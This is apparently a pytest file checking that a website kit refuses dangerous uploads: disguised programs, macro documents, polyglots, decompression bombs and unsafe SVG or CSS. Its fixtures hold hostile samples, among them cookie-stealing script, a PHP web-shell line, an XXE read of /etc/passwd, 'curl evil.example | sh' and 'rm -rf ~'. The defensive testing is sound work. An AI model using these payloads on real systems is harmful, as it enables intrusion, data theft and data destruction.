"""Uploaded files: recognised by content, SVGs on an allowlist, photos bounded; each case on the tiny site."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from fixture_site import Case, assert_neutralised, assert_refused, jpeg, pdf
from kit_uploads import detect, svg_problem
from kit_uploads.svg import css_problem

EMBLEM = "images/emblem.svg"
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"This program cannot be run in DOS mode."
ALLOWED_TEXT = "only documents (PDF, Word, Excel, PowerPoint, OpenDocument, plain text, CSV)"


def svg(body: str, head: str = SVG_OPEN) -> bytes:
    """An SVG drawing of `body`, in UTF-8."""
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{head}{body}</svg>\n'.encode()


def zip_of(entries: dict[str, bytes]) -> bytes:
    """A zip archive holding `entries`, the first one stored (as OpenDocument wants its mimetype)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number, (name, data) in enumerate(entries.items()):
            archive.writestr(name, data, zipfile.ZIP_STORED if number == 0 else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def odf(kind: str) -> bytes:
    return zip_of({"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
                   "content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<manifest/>"})


def ooxml(main_part: str, *extra: str) -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", main_part: b"<document/>", **{name: b"x" for name in extra}})


def ole2(*streams: str) -> bytes:
    """The start of an OLE2 compound file whose directory names `streams` (enough for recognition)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(s.encode("utf-16-le") + bytes(16)
                                                                        for s in ("Root Entry", *streams))


def png(width: int = 8, height: int = 8) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares `width` x `height`: a decompression bomb's shape."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1024)))
            + chunk(b"IEND", b""))


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims `width` x `height`."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "WEBP")
    return buffer.getvalue()


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (8, 8)).save(buffer, "GIF")
    return buffer.getvalue()


# Recognising files by their bytes

@pytest.mark.parametrize("data, kind", [
    (pdf(), "pdf"), (odf("text"), "odt"), (odf("spreadsheet"), "ods"), (odf("presentation"), "odp"),
    (ooxml("word/document.xml"), "docx"), (ooxml("xl/workbook.xml"), "xlsx"),
    (ooxml("ppt/presentation.xml"), "pptx"), (ole2("WordDocument"), "doc"), (ole2("Workbook"), "xls"),
    (ole2("PowerPoint Document"), "ppt"), (b"Kata,Wakazi\nLumbe,1200\n", "text"), ("Habari, dunia\n".encode(), "text"),
    (jpeg(), "jpeg"), (png(), "png"), (webp(), "webp"), (gif(), "gif"),
    (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf", "avif"), (svg("<path d='M0 0h1'/>"), "svg"),
    (HTML, "html"), (b"<html><body>Habari</body></html>", "html"), (b"Hello <script>x()</script>", "html"),
    (b"<?php system($_GET['c']);", "html"), (b"<?xml version='1.0'?><rss/>", "xml"), (ELF, "elf"), (PE, "pe"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "macho"), (b"\x00asm\x01\x00\x00\x00", "wasm"),
    (b"#!/bin/sh\necho hi\n", "script"), (zip_of({"run.sh": b"#!/bin/sh\n"}), "zip"),
    (ooxml("word/document.xml", "word/vbaProject.bin"), "macro"), (ole2("WordDocument", "_VBA_PROJECT"), "macro"),
    (zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": b"x"}), "macro"),
    (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "heic"),
    ("Kata;Bei\nMb\xe9zi;100\n".encode("cp1252"), "encoded"), ("Habari".encode("utf-16"), "encoded"),
    (bytes(range(256)) * 4, "unknown"), (b"", "empty"),
    (b"%PDF-1.4\n<html><script>alert(1)</script>", "polyglot-html"), (gif() + zip_of({"a.txt": b"a"}), "polyglot-zip"),
    (b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>", "polyglot-html"),
])
def test_detect_names_the_kind_from_the_bytes_alone(data, kind):
    assert detect(data) == kind


SAFE_SVGS = {
    "the demo emblem": (Path(__file__).resolve().parent.parent / "content" / EMBLEM).read_bytes(),
    "gradients, use, clip paths and a style sheet": svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<clipPath id="c"><rect width="5" height="5"/></clipPath><symbol id="s"><circle r="2"/></symbol></defs>'
        '<style>.a { fill: url(#g); } /* http://example.org in a comment */</style>'
        '<g class="a" clip-path="url(#c)" style="stroke: url(\'#g\')"><use xlink:href="#s"/><use href="#s"/></g>'
        '<text x="1" y="9" font-family="sans-serif">Nembo <tspan>ya</tspan> wilaya</text>'),
    "Inkscape's editor data": svg(
        '<sodipodi:namedview id="nv" inkscape:zoom="2"/><metadata><rdf:RDF><cc:Work rdf:about="">'
        '<dc:format>image/svg+xml</dc:format></cc:Work></rdf:RDF></metadata>'
        '<g inkscape:label="Safu 1" inkscape:groupmode="layer"><path d="M0 0h10" data-name="mstari"/></g>',
        head=SVG_OPEN[:-1] + ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
        ' xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"'
        ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">'),
    "a picture embedded as data": svg('<image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'),
}


@pytest.mark.parametrize("name", SAFE_SVGS)
def test_a_safe_svg_has_no_problem(name):
    assert svg_problem(SAFE_SVGS[name]) is None


UNSAFE_SVGS = {  # drawing -> what the message names
    "script": (svg("<script>alert(1)</script>"), "a <script> element"),
    "event handler": (svg('<rect width="1" height="1" onload="alert(1)"/>'), "an event handler (onload=)"),
    "handler in capitals": (svg('<g ONCLICK="alert(1)"/>'), "an event handler (ONCLICK=)"),
    "foreignObject": (svg("<foreignObject><p>x</p></foreignObject>"), "a <foreignObject> element"),
    "javascript href": (svg('<use xlink:href="javascript:alert(1)"/>'), "a javascript: address"),
    "javascript hidden by a character reference": (svg('<use href=" &#106;ava&#x09;script:alert(1)"/>'),
                                                    "a javascript: address"),
    "external href": (svg('<use href="https://evil.example/x.svg#a"/>'), "outside the drawing"),
    "external image": (svg('<image href="http://evil.example/track.png"/>'), "outside the drawing"),
    "SVG inside an image": (svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), "outside the drawing"),
    "link": (svg('<a href="#x"><text>x</text></a>'), "a link (<a>)"),
    "animation": (svg('<set attributeName="href" to="javascript:alert(1)"/>'), "an animation (<set>)"),
    "XHTML script": (svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
                     "a <script> element"),
    "unknown element": (svg("<blink>x</blink>"), "an element <blink> that is not allowed"),
    "unknown attribute": (svg('<g formaction="x"/>'), "an attribute formaction that is not allowed"),
    "entity": (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
               + SVG_OPEN.encode() + b"<text>&b;</text></svg>", "<!DOCTYPE"),
    "external entity": (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                        + SVG_OPEN.encode() + b"<text>&x;</text></svg>", "<!DOCTYPE"),
    "style sheet instruction": (b'<?xml-stylesheet href="http://evil.example/a.css"?>' + svg("<g/>"),
                                "a processing instruction <?xml-stylesheet"),
    "CSS url in a style attribute": (svg('<rect style="fill: url(http://evil.example/p.svg#g)"/>'),
                                     "url(http://evil.example/p.svg#g)"),
    "CSS url in a fill": (svg('<rect fill="url(//evil.example/p.svg#g)"/>'), "url(//evil.example/p.svg#g)"),
    "CSS import": (svg("<style>@import 'https://evil.example/a.css';</style>"), "@import"),
    "CSS url in a style sheet": (svg("<style>rect { fill: url('https://evil.example/x') }</style>"),
                                 "which loads another file"),
    "CSS escape": (svg("<style>rect { fill: u\\72l(https://evil.example/x) }</style>"), "CSS escapes"),
    "CSS font": (svg("<style>@font-face { font-family: x; src: url(https://e.example/f.woff) }</style>"),
                 "@font-face"),
    "broken XML": (svg("<g>"), "not a well-formed SVG file"),
    "not SVG at the top": (b'<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>', "its top element is <html>"),
    "no SVG namespace": (b'<svg viewBox="0 0 1 1"><path d="M0 0h1"/></svg>', 'not <svg xmlns="http'),
}


@pytest.mark.parametrize("name", UNSAFE_SVGS)
def test_an_unsafe_svg_is_refused_with_the_reason(name):
    data, reason = UNSAFE_SVGS[name]
    problem = svg_problem(data)
    assert problem and reason in problem, problem
    assert "export the drawing again as plain SVG" in problem or "delete the <!DOCTYPE" in problem


def test_css_allows_fragments_and_comments_only():
    assert css_problem("fill: url(#a); stroke: url( '#b' ) /* see https://example.org */") is None
    assert "url(data:image/png;base64,x)" in css_problem("fill: url(data:image/png;base64,x)")
    assert css_problem("fill: red; background: image-set('https://e.example/x.png' 1x)")


# Refused on a real build: the message names the file and the fix, and the last good site stays

DOCUMENT_CASES = [
    Case("HTML renamed .pdf", {"files/publications/ripoti.pdf": HTML},
         ("content/files/publications/ripoti.pdf: this file is really an HTML page", ALLOWED_TEXT,
          "export it as PDF")),
    Case("Linux program renamed .docx", {"files/tenders/fomu.docx": ELF},
         ("content/files/tenders/fomu.docx: this file is really a Linux program", "remove the file")),
    Case("Windows program renamed .docx", {"files/tenders/fomu.docx": PE},
         ("content/files/tenders/fomu.docx: this file is really a Windows program",)),
    Case("Windows program as .exe", {"files/setup.exe": PE}, ("content/files/setup.exe: this file is really a "
                                                              "Windows program",)),
    Case("shell script as .txt", {"files/tenders/maelezo.txt": b"#!/bin/sh\ncurl evil.example | sh\n"},
         ("content/files/tenders/maelezo.txt: this file is really a script",)),
    Case("HTML page in files/", {"files/tenders/tangazo.html": HTML},
         ("content/files/tenders/tangazo.html: this file is really an HTML page",)),
    Case("zip with a script", {"files/publications/nyaraka.zip": zip_of({"sakinisha.sh": b"#!/bin/sh\nrm -rf ~\n"})},
         ("content/files/publications/nyaraka.zip: this file is really a zip archive",
          "publish each document in it on its own")),
    Case("zip renamed .docx", {"files/tenders/fomu.docx": zip_of({"run.bat": b"del *.*"})},
         ("content/files/tenders/fomu.docx: this file is really a zip archive",)),
    Case("Word file with macros", {"files/tenders/fomu.docx": ooxml("word/document.xml", "word/vbaProject.bin")},
         ("content/files/tenders/fomu.docx: this file is an Office document with macros", "save it without macros")),
    Case("Excel 97 file with macros", {"files/tenders/bei.xls": ole2("Workbook", "_VBA_PROJECT_CUR")},
         ("content/files/tenders/bei.xls: this file is an Office document with macros",)),
    Case("script in a .txt", {"files/tenders/maelezo.txt": b"Soma hapa <script>alert(1)</script>"},
         ("content/files/tenders/maelezo.txt: this file is really an HTML page",)),
    Case("CSV not in UTF-8", {"files/publications/bei.csv": "Kata;Bei\nMb\xe9zi;100\n".encode("cp1252")},
         ("content/files/publications/bei.csv: this file is text that is not in UTF-8", "CSV UTF-8")),
    Case("PDF that is also HTML", {"files/publications/ripoti.pdf": b"%PDF-1.4\n<html><script>alert(1)</script>"},
         ("content/files/publications/ripoti.pdf: this file also holds an HTML page in its first bytes",)),
    Case("PDF named .docx", {"files/tenders/fomu.docx": pdf()},
         ("content/files/tenders/fomu.docx: this file is really a PDF document, but its name ends in .docx; "
          "rename it to end in .pdf",)),
    Case("text named .js", {"files/tenders/kazi.js": b"Maelezo ya kazi\n"},
         ("content/files/tenders/kazi.js: this file is really plain text or CSV in UTF-8, but its name ends in .js",)),
    Case("unknown bytes named .pdf", {"files/tenders/tangazo.pdf": bytes(range(256)) * 8},
         ("content/files/tenders/tangazo.pdf: this file is of a kind the kit does not recognise",)),
    Case("empty PDF", {"files/tenders/tangazo.pdf": b""}, ("content/files/tenders/tangazo.pdf: this file is empty",)),
    Case("macOS program", {"files/programu.pdf": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64)},
         ("content/files/programu.pdf: this file is really a macOS program",)),
    Case("file over the upload limit", {"files/publications/kubwa.pdf": pdf(40)},
         ("content/files/publications/kubwa.pdf: the file is ", " kB, over the limit of 1 kB for one file",)),
]
SVG_CASES = [
    Case(f"SVG: {name}", {EMBLEM: data}, ("content/images/emblem.svg: at line ", " the drawing contains ", reason))
    for name, (data, reason) in UNSAFE_SVGS.items() if name not in ("entity", "external entity", "broken XML",
                                                                     "not SVG at the top", "unknown attribute",
                                                                     "no SVG namespace")
] + [
    Case("SVG: billion laughs", {EMBLEM: UNSAFE_SVGS["entity"][0]},
         ("content/images/emblem.svg: the drawing starts with <!DOCTYPE", "delete the <!DOCTYPE ...> part")),
    Case("SVG: external entity", {"files/mchoro.svg": UNSAFE_SVGS["external entity"][0]},
         ("content/files/mchoro.svg: the drawing starts with <!DOCTYPE",)),
    Case("SVG: HTML named .svg", {"images/mchoro.svg": HTML}, ("content/images/mchoro.svg: this file is really an "
                                                               "HTML page",)),
]
IMAGE_CASES = [
    Case("photo too big in pixels", {"images/picha/kubwa.png": png(8000, 5100)},
         ("content/images/picha/kubwa.png: the photo is 8000 x 5100 px (40.8 megapixels), over the limit of 40 "
          "megapixels", "export it again at most 1600 px wide")),
    Case("album photo declaring 10000 x 10000", {"images/picha/tanki.jpg": jpeg_declaring(10000, 10000)},
         ("content/images/picha/tanki.jpg: the photo is 10000 x 10000 px (100.0 megapixels)",)),
    Case("decompression bomb", {"images/picha/bomu.png": png_declaring(20000, 20000)},
         ("content/images/picha/bomu.png: it declares far more pixels than the limit of 40 megapixels",)),
    Case("JPEG that is really HTML", {"images/picha/tanki.jpg": HTML},
         ("content/images/picha/tanki.jpg: this file is really an HTML page",)),
    Case("GIF that is also a script", {"images/picha/uhuishaji.gif": b"GIF89a\x01\x00\x01\x00<script>alert(1)"
                                                                      b"</script>"},
         ("content/images/picha/uhuishaji.gif: this file also holds an HTML page",)),
    Case("JPEG with a zip at its end", {"images/picha/tanki.jpg": jpeg() + zip_of({"a.sh": b"#!/bin/sh\n"})},
         ("content/images/picha/tanki.jpg: this file also holds a zip archive at its end",)),
    Case("PNG named .jpg", {"images/picha/tanki.jpg": png()},
         ("content/images/picha/tanki.jpg: this file is really a PNG image, but its name ends in .jpg; rename it "
          "to end in .png",)),
    Case("text named .jpg", {"images/picha/maelezo.jpg": b"Picha itakuja baadaye\n"},
         ("content/images/picha/maelezo.jpg: it cannot be read as an image; export it again as JPEG or PNG",)),
    Case("broken JPEG", {"images/picha/mbovu.jpg": b"\xff\xd8\xff\xe0" + bytes(40)},
         ("content/images/picha/mbovu.jpg: it cannot be read as an image",)),
    Case("HEIC photo from a phone", {"images/picha/simu.heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"},
         ("content/images/picha/simu.heic: this file is really a HEIC photo", "export it as JPEG")),
]
SETTINGS = {"file over the upload limit": {"KIT_UPLOAD_MAX_BYTES": 1000}}


@pytest.mark.parametrize("case", DOCUMENT_CASES + SVG_CASES + IMAGE_CASES, ids=lambda case: case.name)
def test_a_careless_or_hostile_upload_stops_the_build(tmp_path, case):
    assert_refused(tmp_path, case, **SETTINGS.get(case.name, {}))


def test_a_photo_over_the_byte_limit_stops_the_build(tmp_path):
    case = Case("photo over the byte limit", {}, ("content/images/picha/tanki.jpg: the photo is 1 kB, over the limit "
                                                  "of 0 kB", "at most 1600 px wide"))
    assert_refused(tmp_path, case, KIT_IMAGE_MAX_SOURCE_BYTES=100)


# Published as they are

def test_every_allowed_kind_is_published_unchanged(tmp_path):
    files = {"files/publications/ripoti.odt": odf("text"), "files/publications/bajeti.ods": odf("spreadsheet"),
             "files/publications/wasilisho.odp": odf("presentation"), "files/tenders/fomu.docx": ooxml(
                 "word/document.xml"), "files/tenders/bei.xlsx": ooxml("xl/workbook.xml"),
             "files/tenders/wasilisho.pptx": ooxml("ppt/presentation.xml"), "files/tenders/fomu.doc": ole2(
                 "WordDocument"), "files/tenders/bei.xls": ole2("Workbook"), "files/tenders/slaidi.ppt": ole2(
                 "PowerPoint Document"), "files/publications/wakazi.csv": "Kata,Wakazi\nMbezi,1200\n".encode(),
             "files/publications/maelezo.txt": "Maelezo: 5 < 6 & 7 > 3\n".encode(), "images/ramani.png": png(),
             "images/picha/uhuishaji.gif": gif(), "images/picha/ndogo.webp": webp(),
             "images/mchoro.svg": SAFE_SVGS["Inkscape's editor data"], "files/mchoro.svg": SAFE_SVGS[
                 "gradients, use, clip paths and a style sheet"]}
    site = assert_neutralised(tmp_path, Case("every allowed kind", files, ()))
    for name, data in files.items():
        if not name.endswith((".png", ".webp")):  # kit_images strips those (of nothing here, but may re-save)
            assert (site / name).read_bytes() == data, name


def test_the_demo_emblem_is_published_byte_for_byte(tmp_path):
    site = assert_neutralised(tmp_path, Case("the good tiny site", {}, ()))
    assert (site / EMBLEM).read_bytes() == SAFE_SVGS["the demo emblem"]
